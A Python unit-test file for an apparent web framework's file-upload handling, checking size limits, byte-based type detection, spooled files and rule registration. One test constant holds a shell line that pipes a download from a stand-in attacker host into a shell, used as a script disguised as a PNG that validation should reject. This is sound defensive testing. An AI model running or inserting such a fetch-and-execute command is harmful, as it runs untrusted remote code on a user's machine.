"""UploadedFile (in memory and spooled) and FileRule: limits, detected types, registration."""

from __future__ import annotations

import tempfile
from typing import Annotated

import pytest

from authstage import FileRule, PayloadTooLarge, UploadedFile, ValidationFailed, action
from authstage.errors import RegistrationError
from authstage.registry import spec_of
from authstage.testing import ActionClient
from tests.unit import sample_actions as sa
from tests.unit.imagefiles import PNG, image_bytes

RULE = FileRule(max_size=10, types={"image/png", "image/jpeg"})
SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"


def test_check_passes_and_fails_with_field_errors() -> None:
    f = UploadedFile.from_bytes("a.png", "image/png", PNG)
    f.check(field="avatar", types={"image/png"}, max_size=len(PNG))
    assert f.size == len(PNG)
    with pytest.raises(PayloadTooLarge) as too_big:
        f.check(field="avatar", max_size=len(PNG) - 1)
    assert list(too_big.value.field_errors) == ["avatar"]
    with pytest.raises(ValidationFailed) as wrong:
        f.check(field="avatar", types={"image/jpeg"})
    assert list(wrong.value.field_errors) == ["avatar"]
    with pytest.raises(ValidationFailed, match="empty"):
        UploadedFile.from_bytes("e", "x", b"").check(field="f")


def test_the_type_comes_from_the_bytes_not_the_name_or_content_type() -> None:
    renamed = UploadedFile.from_bytes("avatar.png", "image/png", SCRIPT)
    assert renamed.detected_type is None
    with pytest.raises(ValidationFailed, match="unknown is not allowed"):
        FileRule(types={"image/png"}).check("avatar", renamed)
    jpeg = UploadedFile.from_bytes("photo.png", "image/png", image_bytes("JPEG"))
    assert jpeg.detected_type == "image/jpeg"
    FileRule(types={"image/*"}).check("avatar", jpeg)


def test_a_spooled_file_reads_like_the_bytes_and_is_deleted_on_close() -> None:
    spool = tempfile.SpooledTemporaryFile(8)  # noqa: SIM115 - the file closes it
    spool.write(b"0123456789")
    f = UploadedFile.spooled("n.txt", "text/plain", spool, 10, None)
    assert (f.read(4), f.data, f.size) == (b"0123", b"0123456789", 10)
    assert b"".join(f.chunks(3)) == b"0123456789"
    f.close()
    assert spool.closed


def test_a_file_rule_is_read_once_at_registration() -> None:
    @action(public=True)
    async def one(
        avatar: Annotated[UploadedFile, RULE], more: list[Annotated[UploadedFile, RULE]] | None
    ) -> None: ...

    assert spec_of(one).signature.file_rules == {"avatar": RULE, "more": RULE}
    rule = RULE
    stable = "FileRule(max_size=10, types=['image/jpeg', 'image/png'], allow_empty=False)"
    assert repr(rule) == stable  # the manifest hash includes it: no set ordering


def test_a_file_rule_on_a_text_parameter_fails_at_registration() -> None:
    with pytest.raises(RegistrationError, match="FileRule on 'name'"):

        @action(public=True)
        async def bad(name: Annotated[str, FileRule(max_size=1)]) -> None: ...


async def test_a_base64_json_file_is_checked_by_the_same_rule(actions: ActionClient) -> None:
    file = {"filename": "a.png", "content_type": "image/png", "data": "IyEvYmluL3No"}
    response = await actions.call(sa.ruled_upload, avatar=file)
    assert response.status_code == 422
    assert "avatar" in response.json()["error"]["fieldErrors"]
    assert sa.CALLS["ruled_upload"] == 0
